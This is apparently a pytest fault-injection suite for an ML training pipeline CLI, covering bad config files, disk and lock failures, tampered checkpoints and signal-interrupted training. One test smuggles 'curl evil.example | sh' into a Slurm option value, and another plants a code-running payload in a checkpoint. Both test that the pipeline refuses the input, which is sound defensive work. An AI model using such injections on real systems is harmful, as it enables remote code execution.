"""Fault injection, phase 1: the faults outside the training and eval stages.

Every fault through the CLI asserts (a) the exit code, (b) a message naming the file or field,
(c) no partial output and no temporary left behind, (d) earlier results byte-identical. The
table in docs/faults.md lists each fault and what the user sees; keep the two in step.
"""

from __future__ import annotations

import errno
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import time
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import torch
import yaml
from safetensors.torch import load_file

from pipeline import cli
from pipeline.config import ExperimentConfig
from pipeline.errors import ConfigError, LockError
from pipeline.experiment import load_config
from pipeline.stages import prepare
from pipeline.state import artifacts, checkpoints, locks
from pipeline.state.artifacts import atomic_path, atomic_write_text, sha256_file
from pipeline.state.layout import RunLayout
from pipeline.state.preemption import EXIT_PREEMPTED, EXIT_TERMINATED, PreemptionFlag
from tests import fault_hooks
from tests.tiny import save_tiny_checkpoint

REPO = Path(__file__).resolve().parents[1]
EXPERIMENT: dict[str, Any] = {
    "name": "faults",
    "model": {"name_or_path": "bundled:smollm2", "max_seq_len": 96},
    "data": {"test_ratio": 0.25, "seed": 0, "synthetic_size": 40},
    "tasks": [{"name": "sentiment", "source": {"type": "synthetic", "generator": "sentiment"}},
              {"name": "arithmetic", "source": {"type": "synthetic", "generator": "arithmetic"}}],
}


# ---- fixtures and helpers --------------------------------------------------------------------------


@pytest.fixture(autouse=True)
def _no_debug(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("SLM_DEBUG", raising=False)


@pytest.fixture(scope="module")
def prepared_once(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """An output_dir whose data `slm prepare` finished once (copied per test: prepare takes seconds)."""
    folder = tmp_path_factory.mktemp("prepared")
    path = _write(folder / "experiment.yaml", {**EXPERIMENT, "output_dir": str(folder / "out")})
    assert cli.main(["prepare", "-c", str(path)]) == 0
    return folder / "out"


@pytest.fixture
def earlier(tmp_path: Path, prepared_once: Path) -> Callable[..., Path]:
    """earlier(**changes) -> an experiment YAML on a copy of the prepared output_dir."""
    shutil.copytree(prepared_once, tmp_path / "out")

    def write(**changes: Any) -> Path:
        return _write(tmp_path / "experiment.yaml", {**EXPERIMENT, "output_dir": str(tmp_path / "out"), **changes})

    return write


def _write(path: Path, raw: dict[str, Any]) -> Path:
    path.write_text(yaml.safe_dump(raw, sort_keys=False))
    return path


def slm(capsys: pytest.CaptureFixture, *argv: str) -> tuple[int, str]:
    code = cli.main(list(argv))
    return code, capsys.readouterr().err


def results(out: Path) -> dict[str, str]:
    """sha256 of every result file under `out` (lock files and the resolved config.yaml aside)."""
    return {str(p.relative_to(out)): sha256_file(p) for p in sorted(out.rglob("*"))
            if p.is_file() and "locks" not in p.relative_to(out).parts and p.name != "config.yaml"}


def temporaries(out: Path) -> list[str]:
    return [str(p) for p in out.rglob("*") if p.name.endswith((".tmp", ".old"))] if out.exists() else []


def assert_user_error(code: int, err: str, *fragments: str) -> None:
    assert code == 2, err
    lines = err.strip().splitlines()
    assert sum(line.startswith("error: ") for line in lines) == 1 and lines[-1].startswith("hint: "), err
    assert "Traceback" not in err
    for fragment in fragments:
        assert fragment in err, f"{fragment!r} not in: {err}"


def spawn(code: str, *args: str, env: dict[str, str] | None = None) -> subprocess.Popen:
    """A Python child running `code`; returns once it printed 'ready'."""
    proc = subprocess.Popen([sys.executable, "-c", code, *args], cwd=REPO, stdout=subprocess.PIPE, text=True,
                            env={**os.environ, "PYTHONPATH": str(REPO), **(env or {})})
    assert proc.stdout is not None and proc.stdout.readline().strip() == "ready", "the child did not start"
    return proc


def kill(proc: subprocess.Popen) -> None:
    proc.send_signal(signal.SIGKILL)
    proc.wait(timeout=10)


# ---- the experiment file and overrides ----------------------------------------------------------------


def test_a_non_utf8_experiment_file_is_one_line_naming_it(tmp_path: Path, capsys) -> None:
    path = tmp_path / "latin1.yaml"
    path.write_bytes(f"name: caf\xe9\noutput_dir: {tmp_path / 'out'}\n".encode("latin-1"))
    assert_user_error(*slm(capsys, "prepare", "-c", str(path)), str(path), "not UTF-8")
    assert not (tmp_path / "out").exists()


def test_broken_yaml_syntax_names_the_file(tmp_path: Path, capsys) -> None:
    path = tmp_path / "broken.yaml"
    path.write_text(f"output_dir: {tmp_path / 'out'}\ntasks: [\n")
    assert_user_error(*slm(capsys, "prepare", "-c", str(path)), str(path), "not valid YAML")
    assert not (tmp_path / "out").exists()


def test_an_override_that_is_not_yaml_names_the_override(earlier, capsys, tmp_path: Path) -> None:
    before = results(tmp_path / "out")
    assert_user_error(*slm(capsys, "prepare", "-c", str(earlier()), "data.seed=[1"), "override 'data.seed=[1'")
    assert results(tmp_path / "out") == before


def test_a_task_named_dot_dot_is_refused_before_anything_is_written(tmp_path: Path, capsys) -> None:
    raw = {**EXPERIMENT, "output_dir": str(tmp_path / "out")}
    raw["tasks"] = [raw["tasks"][0], {**raw["tasks"][1], "name": ".."}]
    assert_user_error(*slm(capsys, "prepare", "-c", str(_write(tmp_path / "e.yaml", raw))), "tasks.1.name", "'..'")
    assert not (tmp_path / "out").exists()


def test_a_newline_in_a_slurm_value_is_refused_and_no_script_is_printed(tmp_path: Path, capsys) -> None:
    raw = {**EXPERIMENT, "output_dir": str(tmp_path / "out"),
           "slurm": {"extra_sbatch": ["--exclusive\ncurl evil.example | sh"]}}
    code = cli.main(["submit", "--dry-run", "-c", str(_write(tmp_path / "e.yaml", raw))])
    captured = capsys.readouterr()
    assert_user_error(code, captured.err, "slurm.extra_sbatch", "control character")
    assert "#SBATCH" not in captured.out and not (tmp_path / "out").exists()


def test_dtkr_groups_not_dividing_the_encoder_dim_fail_before_any_work(tmp_path: Path, capsys) -> None:
    raw = {**EXPERIMENT, "output_dir": str(tmp_path / "out"), "dtkr": {"groups": 7}}
    code, err = slm(capsys, "prepare", "-c", str(_write(tmp_path / "e.yaml", raw)))
    assert_user_error(code, err, "dtkr", "groups=7 does not divide the dimension 384", "config.json")
    assert not (tmp_path / "out").exists(), "found at config load, before prepare or any query encoding"


def test_an_unreadable_experiment_file_names_it(tmp_path: Path, capsys, monkeypatch) -> None:
    path = _write(tmp_path / "e.yaml", {**EXPERIMENT, "output_dir": str(tmp_path / "out")})
    read_text = Path.read_text

    def denied(self: Path, *args: Any, **kwargs: Any) -> str:
        if self == path:  # root reads through any mode bits, so the denial is simulated
            raise PermissionError(errno.EACCES, os.strerror(errno.EACCES), str(self))
        return read_text(self, *args, **kwargs)

    monkeypatch.setattr(Path, "read_text", denied)
    assert_user_error(*slm(capsys, "prepare", "-c", str(path)), f"permission denied: {path}", "ls -ld")


# ---- data files ---------------------------------------------------------------------------------------


def _cl_folder(tmp_path: Path, labels: bytes | None) -> Path:
    folder = tmp_path / "agnews"
    folder.mkdir()
    (folder / "train.json").write_text(json.dumps([{"sentence": f"story {i}", "label": "World"} for i in range(8)]))
    (folder / "test.json").write_text(json.dumps([{"sentence": "other story", "label": "World"}]))
    if labels is not None:
        (folder / "labels.json").write_bytes(labels)
    return folder


def test_a_cl_benchmark_folder_without_labels_json_is_an_error_unless_free_text(earlier, capsys,
                                                                               tmp_path: Path) -> None:
    folder = _cl_folder(tmp_path, labels=None)
    before = results(tmp_path / "out")
    news = {"name": "news", "source": {"type": "cl_benchmark", "path": str(folder)}}
    code, err = slm(capsys, "prepare", "-c", str(earlier(tasks=[EXPERIMENT["tasks"][0], news])))
    assert_user_error(code, err, f"{folder / 'labels.json'}: no such file", "metric: rouge_l", "labels: [...]")
    assert results(tmp_path / "out") == before and not temporaries(tmp_path / "out")
    # Spelled free text, the same folder prepares.
    news["metric"] = "rouge_l"
    assert cli.main(["prepare", "-c", str(earlier(tasks=[EXPERIMENT["tasks"][0], news]))]) == 0


def test_a_non_utf8_labels_file_names_it(earlier, capsys, tmp_path: Path) -> None:
    folder = _cl_folder(tmp_path, labels='["World", "Caf\xe9"]'.encode("latin-1"))
    before = results(tmp_path / "out")
    news = {"name": "news", "source": {"type": "cl_benchmark", "path": str(folder)}}
    code, err = slm(capsys, "prepare", "-c", str(earlier(tasks=[EXPERIMENT["tasks"][0], news])))
    assert_user_error(code, err, f"{folder / 'labels.json'}: not UTF-8")
    assert results(tmp_path / "out") == before


def test_a_non_utf8_data_file_names_it(earlier, capsys, tmp_path: Path) -> None:
    data = tmp_path / "qa.jsonl"
    data.write_bytes(b'{"input": "q", "output": "caf\xe9"}\n')
    before = results(tmp_path / "out")
    task = {"name": "qa", "source": {"type": "file", "path": str(data)}, "instruction": "Answer."}
    code, err = slm(capsys, "prepare", "-c", str(earlier(tasks=[EXPERIMENT["tasks"][0], task])))
    assert_user_error(code, err, f"{data}: not UTF-8")
    assert results(tmp_path / "out") == before


def test_a_torn_done_marker_makes_prepare_rebuild_instead_of_trusting_it(earlier, capsys, tmp_path: Path) -> None:
    before = results(tmp_path / "out")
    (tmp_path / "out" / "data" / "DONE").write_bytes(b'{"stage": "prep\xff')  # cut mid-write, garbled
    assert cli.main(["prepare", "-c", str(earlier())]) == 0
    assert "already done" not in capsys.readouterr().out, "a marker that does not parse is no DONE"
    assert results(tmp_path / "out") == before, "the rebuilt data equals the first build byte for byte"


# ---- the file system ----------------------------------------------------------------------------------


def test_a_full_disk_while_saving_keeps_the_earlier_data_and_no_temporary(earlier, capsys, tmp_path: Path,
                                                                        monkeypatch) -> None:
    before = results(tmp_path / "out")

    def full(task: Any, folder: Path) -> None:
        folder.mkdir()
        (folder / "data-00000-of-00001.arrow").write_bytes(b"half")  # a partial file, then ENOSPC
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))  # write() names no file

    monkeypatch.setattr(prepare, "_save", full)
    code, err = slm(capsys, "prepare", "--force", "-c", str(earlier()))
    assert_user_error(code, err, "no space left", str(tmp_path / "out" / "data"), "output_dir")
    assert results(tmp_path / "out") == before and not temporaries(tmp_path / "out")


def test_a_read_only_output_dir_names_the_path(tmp_path: Path, capsys, monkeypatch) -> None:
    def read_only(*args: Any, dir: str | None = None, **kwargs: Any) -> str:
        raise OSError(errno.EROFS, os.strerror(errno.EROFS), dir)

    monkeypatch.setattr(artifacts.tempfile, "mkdtemp", read_only)
    path = _write(tmp_path / "e.yaml", {**EXPERIMENT, "output_dir": str(tmp_path / "out")})
    code, err = slm(capsys, "prepare", "-c", str(path))
    assert_user_error(code, err, f"read-only file system: {tmp_path / 'out'}", "output_dir")
    assert not (tmp_path / "out" / "data").exists()


def test_an_output_dir_below_a_file_names_the_path(tmp_path: Path, capsys) -> None:
    (tmp_path / "a-file").write_text("not a folder")
    path = _write(tmp_path / "e.yaml", {**EXPERIMENT, "output_dir": str(tmp_path / "a-file" / "out")})
    code, err = slm(capsys, "prepare", "-c", str(path))
    assert_user_error(code, err, str(tmp_path / "a-file"))
    assert (tmp_path / "a-file").read_text() == "not a folder"


def test_a_killed_writer_leaves_a_temporary_the_next_writer_removes_but_a_live_ones_stays(tmp_path: Path) -> None:
    final = tmp_path / "artifact.json"
    writer = ("import sys, time\nfrom pathlib import Path\nfrom pipeline.state.artifacts import atomic_path\n"
              "with atomic_path(Path(sys.argv[1])) as tmp:\n    tmp.write_text('half')\n"
              "    print('ready', flush=True)\n    time.sleep(120)\n")
    live = spawn(writer, str(final))
    try:
        atomic_write_text(final, "other writer")  # runs beside the live one
        assert len(list(tmp_path.glob(".artifact.json.*.tmp"))) == 1, "a live writer's temporary is never removed"
    finally:
        kill(live)
    assert final.read_text() == "other writer"
    assert len(list(tmp_path.glob(".artifact.json.*.tmp"))) == 1, "SIGKILL leaves the temporary behind"
    atomic_write_text(final, "new")
    assert final.read_text() == "new" and not temporaries(tmp_path)


def test_an_old_leftover_without_an_owner_is_removed_and_a_fresh_one_is_kept(tmp_path: Path) -> None:
    old, fresh = tmp_path / ".data.old", tmp_path / ".data.abc123.tmp"
    old.mkdir()
    fresh.mkdir()
    past = time.time() - artifacts.STALE_AGE_S - 60
    os.utime(old, (past, past))
    assert artifacts.remove_leftovers(tmp_path / "data") == [old]
    assert fresh.exists(), "too young to be sure its writer is gone"


def test_two_writers_of_one_artifact_never_share_a_temporary_and_the_last_wins(tmp_path: Path) -> None:
    final = tmp_path / "data"
    with atomic_path(final) as first, atomic_path(final) as second:  # two prepares at once
        assert first.parent != second.parent and first.parent.exists(), "the second left the first's alone"
        for folder, text in ((first, "first"), (second, "second")):
            folder.mkdir()
            (folder / "x").write_text(text)
    assert (final / "x").read_text() == "first"  # the second finished first; the first replaced it whole
    assert not temporaries(tmp_path)


@pytest.mark.parametrize("kernel_swap", [True, False], ids=["renameat2", "two-renames"])
def test_a_folder_is_replaced_whole_and_no_old_copy_remains(tmp_path: Path, monkeypatch, kernel_swap: bool) -> None:
    final = tmp_path / "data"
    final.mkdir()
    (final / "a").write_text("old")
    (final / "gone").write_text("old")
    if not kernel_swap:
        monkeypatch.setattr(artifacts, "exchange", lambda a, b: False)
    with atomic_path(final) as tmp:
        tmp.mkdir()
        (tmp / "a").write_text("new")
    assert sorted(p.name for p in final.iterdir()) == ["a"] and (final / "a").read_text() == "new"
    assert not temporaries(tmp_path) and not [p for p in tmp_path.iterdir() if p.name.startswith(".")]


def test_renameat2_swaps_two_folders_in_one_step(tmp_path: Path) -> None:
    a, b = tmp_path / "a", tmp_path / "b"
    a.mkdir()
    b.mkdir()
    (a / "x").write_text("a")
    (b / "x").write_text("b")
    if not artifacts.exchange(a, b):
        pytest.skip("this kernel or file system has no RENAME_EXCHANGE (the two-rename fallback is tested)")
    assert (a / "x").read_text() == "b" and (b / "x").read_text() == "a"


# ---- concurrent writers ---------------------------------------------------------------------------------

HOLDER = ("import sys, time\nfrom pathlib import Path\nfrom pipeline.state.locks import hold\n"
          "with hold(Path(sys.argv[1]), 'x'):\n    print('ready', flush=True)\n    time.sleep(120)\n")


def test_a_second_writer_of_one_output_folder_fails_at_once_naming_the_holder(tmp_path: Path) -> None:
    layout = RunLayout(tmp_path / "out", "slm")
    holder = spawn(HOLDER, str(locks.lock_path(layout)), env={"SLURM_JOB_ID": "4242"})
    try:
        start = time.monotonic()
        with pytest.raises(LockError) as err, locks.writer_lock(layout):
            pass
        assert time.monotonic() - start < 5, "fails at once, does not wait"
        message = str(err.value)
        for fragment in (f"pid {holder.pid}", f"host {socket.gethostname()}", "Slurm job 4242",
                         str(layout.root), str(locks.lock_path(layout))):
            assert fragment in message, message
        assert "scancel 4242" in (err.value.hint or "")
        assert locks.holder(locks.lock_path(layout))["pid"] == holder.pid
        with locks.writer_lock(layout.for_method("seq_lora")):
            pass  # another method of the same output_dir is another folder: no conflict
    finally:
        kill(holder)


def test_status_shows_the_writer_without_waiting_for_it(tmp_path: Path, capsys) -> None:
    layout = RunLayout.of(load_config(None, [f"output_dir={tmp_path / 'out'}"]))
    holder = spawn(HOLDER, str(locks.lock_path(layout)), env={"SLURM_JOB_ID": "77"})
    try:
        assert cli.main(["status", f"output_dir={tmp_path / 'out'}"]) == 0
    finally:
        kill(holder)
    assert f"output folder is being written by pid {holder.pid} on host {socket.gethostname()} (Slurm job 77)" \
        in capsys.readouterr().out


def test_a_writer_killed_by_sigkill_leaves_no_stale_lock(tmp_path: Path) -> None:
    layout = RunLayout(tmp_path / "out", "slm")
    kill(spawn(HOLDER, str(locks.lock_path(layout))))
    with locks.writer_lock(layout):
        pass
    assert locks.holder(locks.lock_path(layout)) is None


def test_the_writer_lock_is_reentrant_and_only_rank_0_takes_it(tmp_path: Path, monkeypatch) -> None:
    layout = RunLayout(tmp_path / "out", "slm")
    with locks.writer_lock(layout), locks.writer_lock(layout):  # slm run -> train: one process, one writer
        assert locks.holder(locks.lock_path(layout))["pid"] == os.getpid()
    monkeypatch.setenv("RANK", "1")
    holder = spawn(HOLDER, str(locks.lock_path(layout)), env={"RANK": "0"})
    try:
        with locks.writer_lock(layout):
            pass  # rank 1 of a torchrun job is the same writer as its rank 0
    finally:
        kill(holder)


def test_prepare_while_another_prepare_holds_the_data_fails_naming_it(earlier, capsys, tmp_path: Path,
                                                                       monkeypatch) -> None:
    path = earlier()
    layout = RunLayout.of(load_config(path))
    before = results(tmp_path / "out")
    monkeypatch.setattr(locks, "DATA_LOCK_WAIT_S", 0.3)  # a real prepare waits up to an hour
    holder = spawn(HOLDER, str(locks.data_lock_path(layout)))
    try:
        code, err = slm(capsys, "prepare", "--force", "-c", str(path))
    finally:
        kill(holder)
    assert_user_error(code, err, f"data folder {layout.data} is in use by pid {holder.pid}")
    assert results(tmp_path / "out") == before and not temporaries(tmp_path / "out")


# ---- checkpoints --------------------------------------------------------------------------------------


class FakeEngine:
    """What checkpoints.py needs of a DeepSpeed engine: save writes .pt files, load records the tag."""

    def __init__(self) -> None:
        self.loaded: list[str] = []

    def save_checkpoint(self, folder: str, tag: str, client_state: dict, exclude_frozen_parameters: bool) -> None:
        (Path(folder) / tag).mkdir(parents=True)
        (Path(folder) / tag / "mp_rank_00_model_states.pt").write_bytes(os.urandom(64))
        (Path(folder) / tag / "zero_pp_rank_0_mp_rank_00_optim_states.pt").write_bytes(os.urandom(64))

    def load_checkpoint(self, folder: str, tag: str, load_module_strict: bool) -> tuple[str, dict]:
        self.loaded.append(tag)
        return str(Path(folder) / tag), {"step": checkpoints.step_of(Path(folder) / tag)}


@pytest.fixture
def two_checkpoints(tmp_path: Path) -> tuple[Path, FakeEngine]:
    state, engine = tmp_path / "train_state", FakeEngine()
    for step in (3, 6):
        checkpoints.save_checkpoint(engine, state, step)
    return state, engine


@pytest.mark.parametrize("fault", ["modified", "truncated", "extra_file", "group_writable", "old_marker", "no_marker"])
def test_a_bad_newest_checkpoint_is_never_unpickled_and_resume_falls_back(two_checkpoints, capsys, fault: str) -> None:
    state, engine = two_checkpoints
    newest = state / checkpoints.tag(6)
    model = newest / "mp_rank_00_model_states.pt"
    if fault == "modified":
        model.write_bytes(b"import os; os.system('echo owned')")  # a pickle that runs code, say
    elif fault == "truncated":
        model.write_bytes(model.read_bytes()[:10])
    elif fault == "extra_file":
        (newest / "zero_pp_rank_1_mp_rank_00_optim_states.pt").write_bytes(b"planted")
    elif fault == "group_writable":
        os.chmod(model, 0o664)
    elif fault == "old_marker":
        (newest / checkpoints.COMPLETE).write_text("6")  # the format before hashes were recorded
    else:
        (newest / checkpoints.COMPLETE).unlink()
    assert checkpoints.resume_latest(engine, state) == 3
    assert engine.loaded == [checkpoints.tag(3)], "the bad checkpoint never reached DeepSpeed's torch.load"
    warning = capsys.readouterr().err
    assert f"checkpoint {newest} could not be loaded" in warning and "not unpickling" in warning
    expected = {"modified": f"{model} does not match the sha256", "truncated": "does not match the sha256",
                "extra_file": "does not list: zero_pp_rank_1", "group_writable": "chmod -R go-w",
                "old_marker": "records no file hashes", "no_marker": "incomplete"}[fault]
    assert expected in warning


def test_saved_checkpoints_are_private_and_list_every_file(two_checkpoints) -> None:
    state, _ = two_checkpoints
    tag_dir = state / checkpoints.tag(6)
    marker = json.loads((tag_dir / checkpoints.COMPLETE).read_text())
    assert set(marker["sha256"]) == {"mp_rank_00_model_states.pt", "zero_pp_rank_0_mp_rank_00_optim_states.pt"}
    assert os.stat(state).st_mode & 0o077 == 0 and os.stat(tag_dir / "mp_rank_00_model_states.pt").st_mode & 0o077 == 0
    assert checkpoints.verify_checkpoint(tag_dir) is None


def test_when_no_checkpoint_verifies_training_starts_afresh_with_a_warning(two_checkpoints, capsys) -> None:
    state, engine = two_checkpoints
    for tag_dir in checkpoints.list_tags(state):
        (tag_dir / "mp_rank_00_model_states.pt").write_bytes(b"x")
    assert checkpoints.resume_latest(engine, state) == 0 and engine.loaded == []
    assert "training this task from step 0" in capsys.readouterr().err


# ---- signals ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("signals", "code"), [
    ([signal.SIGUSR1], EXIT_PREEMPTED), ([signal.SIGTERM], EXIT_TERMINATED),
    ([signal.SIGUSR1, signal.SIGTERM], EXIT_TERMINATED),  # a cancel during a preemption checkpoint stays final
])
def test_usr1_asks_for_a_requeue_and_sigterm_for_a_stop(signals: list[int], code: int) -> None:
    with PreemptionFlag() as flag:
        for sig in signals:
            os.kill(os.getpid(), sig)
        deadline = time.monotonic() + 5
        while len(flag.received) < len(signals) and time.monotonic() < deadline:
            time.sleep(0.01)
        assert flag.requested and flag.exit_code == code and flag.terminated == (code == EXIT_TERMINATED)


# ---- the error path itself ----------------------------------------------------------------------------


def test_a_bug_keeps_its_traceback(monkeypatch) -> None:
    def bug(*args: Any) -> None:
        raise ValueError("an internal invariant broke")

    monkeypatch.setattr(prepare, "main", bug)
    with pytest.raises(ValueError, match="invariant"):
        cli.main(["prepare"])


def test_debug_shows_the_traceback_of_a_user_error(tmp_path: Path, monkeypatch) -> None:
    monkeypatch.setenv("SLM_DEBUG", "1")
    with pytest.raises(ConfigError):
        cli.main(["prepare", f"output_dir={tmp_path}", "tasks.0.name=.."])
    monkeypatch.delenv("SLM_DEBUG")
    for argv in (["--debug", "prepare"], ["prepare", "--debug"]):
        with pytest.raises(ConfigError):
            cli.main([*argv, f"output_dir={tmp_path}", "tasks.0.name=.."])


def test_a_value_error_of_the_key_code_is_a_user_error() -> None:
    import torch

    from pipeline.dtkr.keys import group_normalize
    from pipeline.error_report import user_message

    try:
        group_normalize(torch.zeros(2, 10), 3)
    except ValueError as e:
        assert user_message(e) == ("dtkr.groups=3 does not divide the encoder dimension 10",
                                   "add --debug (or set SLM_DEBUG=1) for the full traceback")


def test_ctrl_c_exits_130_without_a_traceback(monkeypatch, capsys) -> None:
    def interrupted(*args: Any) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(prepare, "main", interrupted)
    assert cli.main(["prepare"]) == 130
    assert capsys.readouterr().err.strip() == "interrupted"


# =====================================================================================================
# Phase 2: the stages that train and read results. A result is valid only for the inputs it records;
# every reader checks that before use; writers hold the lock; kills and signals resume exactly.
# =====================================================================================================

TINY_TRAIN = {"max_steps": 4, "micro_batch_size": 4, "save_every": 2}


@dataclass
class Run:
    """One experiment folder on the tiny model: its YAML, its output_dir, and the CLI on it."""

    yaml: Path
    model: str

    @property
    def out(self) -> Path:
        return self.yaml.parent / "out"

    @property
    def cfg(self) -> ExperimentConfig:
        return load_config(self.yaml)

    @property
    def layout(self) -> RunLayout:
        return RunLayout.of(self.cfg)

    def task_dir(self, i: int) -> Path:
        return self.layout.task_dir(i, EXPERIMENT["tasks"][i]["name"])

    def state(self, i: int = 0) -> Path:
        return self.task_dir(i) / "train_state"

    def argv(self, command: str, *args: str) -> list[str]:
        return [command, "-c", str(self.yaml), *args]


def make_run(folder: Path, model: str) -> Run:
    raw = {**EXPERIMENT, "output_dir": str(folder / "out"), "model": {"name_or_path": model, "max_seq_len": 64},
           "train": TINY_TRAIN, "dtkr": {"key_epochs": 1}, "eval": {"max_records_per_task": 4, "max_new_tokens": 2}}
    return Run(_write(folder / "experiment.yaml", raw), model)


def copy_run(run: Run, folder: Path) -> Run:
    """The same experiment on a copy of `run`'s output_dir (results hold no absolute paths)."""
    shutil.copytree(run.out, folder / "out", symlinks=True)
    return make_run(folder, run.model)


def call(capsys: pytest.CaptureFixture, *argv: str) -> tuple[int, str, str]:
    capsys.readouterr()
    code = cli.main(list(argv))
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def tensors(task_dir: Path) -> dict[str, dict[str, torch.Tensor]]:
    return {f: load_file(str(task_dir / f)) for f in ("adapter.safetensors", "keys.safetensors")}


def assert_same_tensors(got: dict, expected: dict) -> None:
    """torch.equal per tensor: two saves of equal tensors may differ in bytes (safetensors writes its
    metadata in no fixed order), so files are not compared."""
    assert got.keys() == expected.keys()
    for f in expected:
        assert got[f].keys() == expected[f].keys(), f
        for k in expected[f]:
            assert torch.equal(got[f][k], expected[f][k]), f"{f}: tensor {k} differs from the uninterrupted run"


def finished_files(out: Path) -> dict[str, str]:
    """sha256 of every DONE marker under `out` and of every file it lists: the finished results."""
    digests = {}
    for done in sorted(out.rglob(artifacts.DONE)):
        digests[str(done.relative_to(out))] = sha256_file(done)
        for rel in json.loads(done.read_text())["outputs"]:
            digests[str((done.parent / rel).relative_to(out))] = sha256_file(done.parent / rel)
    return digests


def tree(folder: Path) -> dict[str, str]:
    return {str(p.relative_to(folder)): sha256_file(p) for p in sorted(folder.rglob("*")) if p.is_file()}


def child_env() -> dict[str, str]:
    """A child's environment: no rendezvous left by in-process stages, and this process's thread
    count, so its arithmetic (and the adapter it trains) is bit for bit this process's."""
    env = {k: v for k, v in os.environ.items() if k not in ("RANK", "WORLD_SIZE", "LOCAL_RANK", "MASTER_ADDR",
                                                           "MASTER_PORT")}
    threads = str(torch.get_num_threads())
    return {**env, "PYTHONPATH": str(REPO), "OMP_NUM_THREADS": threads, "MKL_NUM_THREADS": threads}


def flip_byte(path: Path) -> None:
    data = bytearray(path.read_bytes())
    data[len(data) // 2] ^= 0xFF  # still a loadable file: only the hash can tell
    path.write_bytes(bytes(data))


@pytest.fixture(scope="module")
def tiny_model(tmp_path_factory: pytest.TempPathFactory) -> str:
    return save_tiny_checkpoint(tmp_path_factory.mktemp("tiny-llama"))


@pytest.fixture(scope="module")
def tiny_prepared(tmp_path_factory: pytest.TempPathFactory, tiny_model: str) -> Run:
    run = make_run(tmp_path_factory.mktemp("tiny-prepared"), tiny_model)
    assert cli.main(run.argv("prepare")) == 0
    return run


@pytest.fixture(scope="module")
def tiny_finished(tmp_path_factory: pytest.TempPathFactory, tiny_prepared: Run) -> Run:
    """Both tasks trained without interruption, indexed, every eval row scored, reported."""
    run = copy_run(tiny_prepared, tmp_path_factory.mktemp("tiny-finished"))
    assert cli.main(run.argv("run")) == 0
    return run


@pytest.fixture
def prepared_copy(tmp_path: Path, tiny_prepared: Run) -> Run:
    return copy_run(tiny_prepared, tmp_path)


@pytest.fixture
def finished_copy(tmp_path: Path, tiny_finished: Run) -> Run:
    return copy_run(tiny_finished, tmp_path)


@pytest.fixture(scope="module")
def stopped_in_keys(tmp_path_factory: pytest.TempPathFactory, tiny_prepared: Run) -> Run:
    """Task 0 stopped by SIGTERM during its key learning: train_state holds INPUTS.json, the
    cached keys and the checkpoint of step 1."""
    run = copy_run(tiny_prepared, tmp_path_factory.mktemp("stopped-in-keys"))
    patch = pytest.MonkeyPatch()
    try:
        fault_hooks.install(patch.setattr, "keys", signal.SIGTERM)
        assert cli.main(run.argv("train", "--task", "0")) == EXIT_TERMINATED
    finally:
        patch.undo()
    return run


@pytest.fixture
def stopped(tmp_path: Path, stopped_in_keys: Run) -> Run:
    return copy_run(stopped_in_keys, tmp_path)


def resume_to_the_uninterrupted_adapter(run: Run, capsys, reference: Run, step: int | None) -> tuple[str, str]:
    code, out, err = call(capsys, *run.argv("train", "--task", "0"))
    assert code == 0, err
    if step is not None:
        assert f"resumed task 0 from step {step}/4 ({run.state()})" in out, out
    assert_same_tensors(tensors(run.task_dir(0)), tensors(reference.task_dir(0)))
    assert not run.state().exists() and not temporaries(run.out)
    return out, err


# ---- kills and signals during training: resume ends bit-identical to an uninterrupted run ---------------


SIGKILL_POINTS = {
    "keys": (0, None),  # keys learned, not cached: learned again, the same
    "mid-step": (2, 2),  # after forward/backward of step 3, before its update: from the checkpoint of step 2
    "checkpoint": (4, 2),  # step 4's files written, its COMPLETE not: that checkpoint is never loaded
}


@pytest.fixture(scope="module")
def sigkilled(tmp_path_factory: pytest.TempPathFactory, tiny_prepared: Run) -> dict[str, tuple[Run, int, str]]:
    """Task 0 killed by SIGKILL at each point, in children started together (each pays for its
    imports; side by side they share the cores): point -> (run, exit status, output)."""
    runs = {point: copy_run(tiny_prepared, tmp_path_factory.mktemp(f"sigkill-{point}")) for point in SIGKILL_POINTS}
    children = {point: subprocess.Popen(
        [sys.executable, "-m", "tests.fault_hooks", point, "SIGKILL", str(SIGKILL_POINTS[point][0]),
         *run.argv("train", "--task", "0")], cwd=REPO, env=child_env(), stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT, text=True) for point, run in runs.items()}
    outputs = {point: child.communicate(timeout=900)[0] for point, child in children.items()}  # drains the pipes
    return {point: (runs[point], children[point].returncode, outputs[point]) for point in runs}


@pytest.mark.slow
@pytest.mark.parametrize("point", sorted(SIGKILL_POINTS))
def test_sigkill_then_the_rerun_ends_with_the_adapter_of_an_uninterrupted_run(
        sigkilled: dict[str, tuple[Run, int, str]], tiny_prepared: Run, tiny_finished: Run, capsys, point: str) -> None:
    run, status, output = sigkilled[point]
    assert status == -signal.SIGKILL, output[-3000:]
    assert not (run.task_dir(0) / "DONE").exists() and not (run.task_dir(0) / "adapter.safetensors").exists()
    out, err = resume_to_the_uninterrupted_adapter(run, capsys, tiny_finished, SIGKILL_POINTS[point][1])
    if point == "keys":
        assert "learning DTKR keys of task 0" in out
    if point == "checkpoint":
        assert f"checkpoint {run.state() / 'step-000004'} could not be loaded: it is incomplete" in err
    data = {k: v for k, v in finished_files(run.out).items() if k.startswith("data")}
    assert data == finished_files(tiny_prepared.out), "the prepared data is byte for byte what it was"


@pytest.mark.parametrize(("point", "step", "stopped_at"), [("mid-step", 1, 2), ("checkpoint", 2, 3)])
def test_sigterm_checkpoints_exits_143_and_the_rerun_resumes_to_the_same_adapter(
        prepared_copy: Run, tiny_finished: Run, capsys, monkeypatch, point: str, step: int, stopped_at: int) -> None:
    run = prepared_copy
    with monkeypatch.context() as m:
        fault_hooks.install(m.setattr, point, signal.SIGTERM, step)
        code, out, _ = call(capsys, *run.argv("train", "--task", "0"))
    assert code == EXIT_TERMINATED
    assert f"checkpoint at step {stopped_at} saved; exiting 143 (stop signal (SIGTERM): not requeued" in out
    assert not (run.task_dir(0) / "DONE").exists()
    assert checkpoints.verify_checkpoint(run.state() / checkpoints.tag(stopped_at)) is None
    resume_to_the_uninterrupted_adapter(run, capsys, tiny_finished, stopped_at)


